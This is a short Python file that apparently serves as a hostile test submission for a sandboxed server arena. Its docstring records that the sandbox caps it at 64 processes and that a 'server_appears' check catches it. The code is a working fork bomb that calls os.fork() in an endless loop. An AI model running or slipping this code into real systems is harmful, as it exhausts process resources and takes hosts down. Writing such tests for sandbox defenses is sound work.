"""Attack: forks without end before it serves anything.
Outcome: the sandbox holds 64 processes and threads; the arena ends with all of them.
Caught by: server_appears
"""

import os
import time


def main(args=None):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)


if __name__ == "__main__":
    main()
